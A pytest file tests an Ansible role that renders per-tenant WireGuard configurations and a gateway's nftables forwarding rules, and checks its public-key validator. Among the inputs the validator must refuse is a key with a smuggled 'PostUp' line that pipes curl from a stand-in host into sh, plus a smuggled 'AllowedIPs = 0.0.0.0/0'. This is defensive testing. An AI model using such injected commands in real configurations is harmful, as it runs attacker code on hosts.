# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
"""The private_node_join role's tunnels as it writes them: ansible-playbook reads a fleet through the
inventory plugin, the role picks this host's tunnels (tasks/tunnels.yml: tenant filter, gateway check)
and its template renders each wg-quick configuration (mesh, keepalive), with stand-in public keys, and
the gateway's nftables rules (tasks/gateway_rules.yml, templates/gateway.nft.j2). Nothing is applied to
a host; the lab tests load the rules into a real kernel."""
from __future__ import annotations

import base64
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from tests.support.fleet_data import fleet, node, tenant

REPO = Path(__file__).resolve().parents[3]
BIN = Path(sys.executable).parent
TEMPLATE = REPO / "roles" / "private_node_join" / "templates" / "wg-quick.conf.j2"
FIREWALL = REPO / "roles" / "private_node_join" / "templates" / "gateway.nft.j2"
ROLE_VARS = yaml.safe_load((REPO / "roles" / "private_node_join" / "vars" / "main.yml").read_text())
SCENARIOS = {
    "defaults": {},
    "no_mesh_no_keepalive": {"private_node_join_mesh": False, "private_node_join_keepalive": 0},
    "only_cobalt": {"private_node_join_tenants": ["cobalt"], "private_node_join_keepalive": 10},
    "load_balancer": {"private_node_join_api_target": "192.0.2.50", "private_node_join_api_target_port": 443},
}
RENDER = """{% set out = {} %}{% for t in private_node_join__tunnels %}{% set _ = out.update({t.interface:
lookup('ansible.builtin.template', template, template_vars={'item': t})}) %}{% endfor %}{{ out }}"""


def _play(name: str, settings: dict) -> dict:
    return {
        "name": name,
        "hosts": "wireguard_gateways:private_nodes",
        "gather_facts": False,
        "vars": {**settings, "template": str(TEMPLATE),
                 "private_node_join__peer_keys": "{{ dict(interfaces | zip([keys] * (interfaces | length))) }}",
                 "interfaces": "{{ private_node_join__tunnels | map(attribute='interface') | list }}",
                 "keys": "{{ dict(groups['all'] | zip(groups['all'] | map('regex_replace', '^', 'key-of-'))) }}"},
        "tasks": [
            {"name": "The role's tunnels of this host",
             "ansible.builtin.include_role": {"name": "gpucloud.baremetal.private_node_join",
                                              "tasks_from": "tunnels.yml", "public": True}},
            {"name": "Render them", "ansible.builtin.set_fact": {"rendered_" + name: RENDER}},
            {"name": "The gateway's forwarding",
             "ansible.builtin.include_role": {"name": "gpucloud.baremetal.private_node_join",
                                              "tasks_from": "gateway_rules.yml", "public": True},
             "when": "inventory_hostname in groups['wireguard_gateways']"},
            {"name": "Render its firewall", "ansible.builtin.set_fact": {
                "rendered_" + name: "{{ rendered_%s | combine({'nft': lookup('ansible.builtin.template', '%s')}) }}"
                                    % (name, FIREWALL)},
             "when": "inventory_hostname in groups['wireguard_gateways']"},
        ],
    }


def _collect(out: Path) -> dict:
    hosts = "(groups['wireguard_gateways'] + groups['private_nodes'])"
    content = "{{ dict(%s | zip(%s | map('extract', hostvars) | map('dict2items') | map('selectattr', 'key', "  \
              "'match', 'rendered_') | map('items2dict'))) | to_json }}" % (hosts, hosts)
    return {"name": "Collect", "hosts": "localhost", "gather_facts": False,
            "tasks": [{"name": "Write what each host rendered",
                       "ansible.builtin.copy": {"content": content, "dest": str(out), "mode": "0600"}}]}


def _run(inventory: Path, plays: list[dict], where: Path) -> subprocess.CompletedProcess:
    playbook = where / "play.yml"
    playbook.write_text(yaml.safe_dump(plays, sort_keys=False))
    env = dict(os.environ, ANSIBLE_CONFIG=str(REPO / "ansible.cfg"), PATH=f"{BIN}{os.pathsep}{os.environ['PATH']}",
               ANSIBLE_NOCOLOR="1")
    return subprocess.run([str(BIN / "ansible-playbook"), "-i", str(inventory), str(playbook)], cwd=REPO, env=env,
                          capture_output=True, text=True, check=False)


@pytest.fixture(scope="module")
def rendered(tmp_path_factory) -> dict:
    """Host -> scenario -> interface -> its wg-quick configuration, for a fleet with a gateway and two
    private tenants: acme (gpu01, gpu04) and cobalt (gpu05, port 51821)."""
    where = tmp_path_factory.mktemp("pnj")
    data = fleet()
    data["site"]["host_cluster"] = {"wireguard_gateway": {"name": "cp", "ip": "192.0.2.5"}}
    data["tenants"][0]["gpu"] = {"quota": 16, "limit": 16, "over_quota_weight": 1}
    data["tenants"].append(tenant("cobalt", 103, isolation="private", quota=8, limit=8,
                                  wg={"subnet": "10.203.0.0/24", "port": 51821}))
    data["nodes"] += [node(4, tenant="acme"), node(5, tenant="cobalt")]
    inventory = where / "fleet.yml"
    inventory.write_text(yaml.safe_dump(data, sort_keys=False))
    out = where / "rendered.json"
    run = _run(inventory, [_play(name, s) for name, s in SCENARIOS.items()] + [_collect(out)], where)
    assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]
    by_host = json.loads(out.read_text())
    return {host: {name[len("rendered_"):]: text for name, text in found.items()} for host, found in by_host.items()}


def peers(conf: str) -> list[dict]:
    """The [Peer] sections of a wg-quick configuration, as mappings (the '# host' comment as 'host')."""
    out = []
    for block in conf.split("[Peer]")[1:]:
        lines = [line for line in block.strip().splitlines() if line]
        entry = {"host": lines[0].lstrip("# ")}
        entry.update(line.split(" = ", 1) for line in lines[1:])
        out.append(entry)
    return out


def interface(conf: str) -> dict:
    lines = conf.split("[Interface]", 1)[1].split("[Peer]", 1)[0].strip().splitlines()
    return dict(line.split(" = ", 1) for line in lines if " = " in line)


def test_gateway_has_one_interface_per_tenant_with_that_tenants_nodes(rendered: dict) -> None:
    gw = {k: v for k, v in rendered["cp"]["defaults"].items() if k != "nft"}
    assert sorted(gw) == ["wg-acme", "wg-cobalt"]
    assert interface(gw["wg-acme"])["Address"] == "10.201.0.1/24"
    assert interface(gw["wg-cobalt"])["ListenPort"] == "51821"
    assert peers(gw["wg-acme"]) == [
        {"host": "gpu01", "PublicKey": "key-of-gpu01", "AllowedIPs": "10.201.0.21/32"},
        {"host": "gpu04", "PublicKey": "key-of-gpu04", "AllowedIPs": "10.201.0.24/32"}]
    assert [p["host"] for p in peers(gw["wg-cobalt"])] == ["gpu05"]


def test_node_peers_with_the_gateway_kept_alive_and_with_its_tenants_other_nodes(rendered: dict) -> None:
    (conf,) = rendered["gpu01"]["defaults"].values()
    assert interface(conf) == {"Address": "10.201.0.21/24", "ListenPort": "51820",
                               "PostUp": "wg set %i private-key /etc/wireguard/%i.key"}
    assert peers(conf) == [
        {"host": "cp", "PublicKey": "key-of-cp", "AllowedIPs": "10.201.0.1/32", "Endpoint": "192.0.2.5:51820",
         "PersistentKeepalive": "25"},
        {"host": "gpu04", "PublicKey": "key-of-gpu04", "AllowedIPs": "10.201.0.24/32", "Endpoint": "192.0.2.24:51820"}]


def test_mesh_off_leaves_the_gateway_only_and_keepalive_zero_drops_it(rendered: dict) -> None:
    (conf,) = rendered["gpu01"]["no_mesh_no_keepalive"].values()
    assert peers(conf) == [
        {"host": "cp", "PublicKey": "key-of-cp", "AllowedIPs": "10.201.0.1/32", "Endpoint": "192.0.2.5:51820"}]
    assert rendered["cp"]["no_mesh_no_keepalive"] == rendered["cp"]["defaults"]  # the gateway has no mesh


def test_tenant_filter_keeps_only_that_tenants_tunnels(rendered: dict) -> None:
    assert sorted(rendered["cp"]["only_cobalt"]) == ["nft", "wg-cobalt"]
    assert rendered["gpu01"]["only_cobalt"] == {} and rendered["gpu04"]["only_cobalt"] == {}
    (conf,) = rendered["gpu05"]["only_cobalt"].values()
    assert peers(conf) == [{"host": "cp", "PublicKey": "key-of-cp", "AllowedIPs": "10.203.0.1/32",
                            "Endpoint": "192.0.2.5:51821", "PersistentKeepalive": "10"}]


def test_a_private_node_without_a_gateway_in_the_fleet_is_stopped(tmp_path: Path) -> None:
    run = _run(REPO / "inventories" / "example" / "fleet.yml", [_play("defaults", {})], tmp_path)
    assert run.returncode != 0
    assert "gpu-r2-01 is a private node but the fleet has no WireGuard gateway" in run.stdout


def _rules(nft: str, chain: str) -> list[str]:
    body = re.search(r"chain %s \{(.*?)\n\t\}" % chain, nft, re.S).group(1)
    return [line.strip() for line in body.splitlines() if line.strip() and not line.strip().startswith("type ")]


def test_the_gateway_forwards_each_tenants_hub_port_to_its_service_and_nothing_else(rendered: dict) -> None:
    nft = rendered["cp"]["defaults"]["nft"]
    assert nft.count("table inet gpucloud_wireguard") == 3  # declared, deleted, defined: one transaction
    # The tenant's NodePort (30000 + VLAN) on the gateway itself, a node of the host cluster.
    assert _rules(nft, "prerouting") == [
        'iifname "wg-acme" ip daddr 10.201.0.1 tcp dport 443 dnat ip to 192.0.2.5:30101 comment "acme: hub -> vCluster Service"',
        'iifname "wg-cobalt" ip daddr 10.203.0.1 tcp dport 443 dnat ip to 192.0.2.5:30103 comment "cobalt: hub -> vCluster Service"']
    assert _rules(nft, "from_tunnels") == [
        "ct state established,related accept",
        'iifname "wg-acme" ct status dnat ct original ip daddr 10.201.0.1 meta l4proto tcp ct original proto-dst 443 '
        'accept '
        'comment "acme: its hub, forwarded"',
        'iifname "wg-cobalt" ct status dnat ct original ip daddr 10.203.0.1 meta l4proto tcp ct original proto-dst 443 '
        'accept '
        'comment "cobalt: its hub, forwarded"',
        "drop"]
    assert _rules(nft, "input") == ['iifname "wg-*" jump from_tunnels']
    assert _rules(nft, "forward")[0] == 'iifname "wg-*" jump from_tunnels'
    assert _rules(nft, "forward")[-1].startswith('oifname "wg-*" drop')


def test_nft_accepts_the_gateway_firewall(rendered: dict, tmp_path: Path) -> None:
    """nftables' own parser (nft -c, in a network namespace of its own) takes the ruleset as rendered: the
    role's copy task validates with it too, on the gateway."""
    if not shutil.which("nft") or os.geteuid() != 0:
        pytest.skip("NO NFT CHECK: needs nft (bindep: nftables) and root for a network namespace")
    ruleset = tmp_path / "gateway.nft"
    ruleset.write_text(rendered["cp"]["defaults"]["nft"])
    check = subprocess.run(["unshare", "--net", "nft", "-c", "-f", str(ruleset)], capture_output=True, text=True,
                           check=False)
    assert check.returncode == 0, check.stderr
    broken = tmp_path / "broken.nft"
    broken.write_text(ruleset.read_text().replace(" meta l4proto tcp ct original proto-dst", " ct original proto-dst"))
    assert subprocess.run(["unshare", "--net", "nft", "-c", "-f", str(broken)], capture_output=True,
                          check=False).returncode != 0  # what the role wrote before: nft refuses it


def test_a_run_for_one_tenant_keeps_every_tenants_rules(rendered: dict) -> None:
    assert rendered["cp"]["only_cobalt"]["nft"] == rendered["cp"]["defaults"]["nft"]


def test_the_forwarding_target_may_be_a_load_balancer(rendered: dict) -> None:
    prerouting = _rules(rendered["cp"]["load_balancer"]["nft"], "prerouting")
    assert [rule.split(" dnat ip to ")[1].split()[0] for rule in prerouting] == ["192.0.2.50:443", "192.0.2.50:443"]


def _is_key(text: str) -> bool:
    """The role's check, as its `regex` test applies it (re.search, no flags)."""
    return re.search(ROLE_VARS["private_node_join__key_pattern"], text) is not None


@pytest.mark.parametrize("raw", [bytes(32), bytes(range(32)), b"\xff" * 32])
def test_a_wireguard_public_key_is_accepted(raw: bytes) -> None:
    assert _is_key(base64.b64encode(raw).decode())


@pytest.mark.parametrize("text", [
    base64.b64encode(bytes(31)).decode(), base64.b64encode(bytes(33)).decode(),
    base64.b64encode(bytes(32)).decode() + "\nAllowedIPs = 0.0.0.0/0",
    base64.b64encode(bytes(32)).decode() + "\nPostUp = curl http://198.51.100.99/x | sh",
    "AllowedIPs = 0.0.0.0/0\n" + base64.b64encode(bytes(32)).decode(),
    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAB=",  # 43 characters, but not the encoding of 32 bytes
    "", "(generated on the first run)"])
def test_anything_else_is_refused(text: str) -> None:
    assert not _is_key(text)
